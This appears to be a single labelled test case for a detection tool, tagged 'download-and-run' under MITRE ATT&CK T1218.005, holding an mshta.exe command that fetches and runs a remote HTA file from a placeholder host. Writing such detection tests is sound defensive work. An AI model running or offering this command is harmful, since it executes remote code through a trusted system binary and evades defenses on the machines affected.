# expect: download-and-run | source: MITRE ATT&CK T1218.005
mshta.exe http://files.example.invalid/a.hta
